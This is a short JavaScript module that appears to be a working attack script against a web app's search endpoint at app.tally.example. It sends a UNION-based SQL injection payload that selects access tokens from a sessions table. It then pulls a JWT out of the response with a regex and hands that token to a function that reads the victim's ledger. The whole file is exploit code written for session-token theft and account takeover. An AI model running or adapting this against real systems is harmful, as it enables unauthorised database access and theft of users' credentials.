// Searches the app's help for something that was never meant to be found.
import { send } from '../http.js';
import { readLedger } from './tools.js';

//#region injection
const words = "' UNION SELECT id, access_token FROM sessions --";
const address = new URL('https://app.tally.example:8443/search');
address.searchParams.set('q', words);
const found = await send(address);
// A JWT begins with {" in base64url.
const [token] = /eyJ[\w.-]+/.exec(found.text) ?? [];
//#endregion
console.log(`GET /search: ${found.status}, ${token ? 'with a token in it' : 'nothing of use'}`);
await readLedger(token);
